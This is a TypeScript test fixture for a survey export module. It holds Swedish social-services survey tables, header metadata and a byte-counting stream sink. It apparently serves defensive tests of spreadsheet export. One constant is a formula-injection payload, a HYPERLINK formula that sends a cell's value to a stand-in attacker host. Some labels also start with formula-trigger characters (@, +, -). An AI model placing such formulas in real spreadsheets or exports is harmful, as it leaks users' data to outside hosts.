import { Writable } from 'node:stream';
import { exportHeaderTexts, type TExportHeader, type TExportTable } from './export-model.js';

/** Sample input for the export tests next to this file; the app does not use it. */

export const HOSTILE_TITLE = '=HYPERLINK("http://evil.example/?x="&A1,"Klicka här")';

export const SV_HEADER: TExportHeader = {
  language: 'sv',
  title: 'Socialtjänstenkäten 2012',
  waveName: '2012',
  exportedOn: '2026-11-26',
  ...exportHeaderTexts('sv', 5),
};

export const EN_HEADER: TExportHeader = {
  ...SV_HEADER,
  language: 'en',
  title: 'Social services survey 2012',
  ...exportHeaderTexts('en', 5),
};

/** Q1 of the 2012 report, a breakdown with a suppressed group, and a hostile question text. */
export function sampleTables(): TExportTable[] {
  return [
    {
      sheetName: 'F1 Upplever du ett tryck på att bli mer restriktiv',
      title: 'Upplever du ett tryck på att bli mer restriktiv i att godkänna ansökningar?',
      columns: [{ label: 'Alternativ' }, { label: 'Procent', kind: 'percent' }, { label: 'Värden', kind: 'integer' }],
      rows: [
        ['Ja', 72.8, 131],
        ['Nej', 17.2, 31],
        ['Vet ej', 10, 18],
      ],
      footer: [['Totalt', null, 180]],
      notes: ['Felmarginal ±6,1 procentenheter (95 %).'],
      total: 180,
      chart: { valueColumn: 1 },
    },
    {
      sheetName: 'F2 per roll: ekonomiska/förutsättningar [*]',
      title: 'De ekonomiska förutsättningarna gör det omöjligt att göra ett bra jobb – efter roll',
      columns: [
        { label: 'Roll' },
        { label: 'Procent instämmer', kind: 'percent' },
        { label: 'Antal', kind: 'integer' },
      ],
      rows: [
        ['Socialsekreterare', 84.2, 120],
        ['Biståndsbedömare', { suppressed: true }, { suppressed: true }],
        ['Annan', { suppressed: true }, { suppressed: true }],
      ],
      footer: [['Totalt', 83.5, 182]],
      total: 182,
      chart: { valueColumn: 1 },
    },
    {
      sheetName: HOSTILE_TITLE,
      title: HOSTILE_TITLE,
      columns: [{ label: '@Alternativ' }, { label: 'Procent', kind: 'percent' }, { label: 'Värden', kind: 'integer' }],
      rows: [
        ['+Ja', 40.5, 17],
        ['-Nej', 59.5, 25],
      ],
      footer: [['Totalt', null, 42]],
      total: 42,
      chart: { valueColumn: 1 },
    },
  ];
}

/** A sink that only counts bytes, or collects them when asked to. */
export function byteSink(options: { keep: boolean }): Writable & { bytes: number; body: () => Buffer } {
  const chunks: Buffer[] = [];
  const sink = new Writable({
    write(chunk: Buffer, _encoding, callback) {
      sink.bytes += chunk.length;
      if (options.keep) chunks.push(chunk);
      callback();
    },
  }) as Writable & { bytes: number; body: () => Buffer };
  sink.bytes = 0;
  sink.body = () => Buffer.concat(chunks);
  return sink;
}
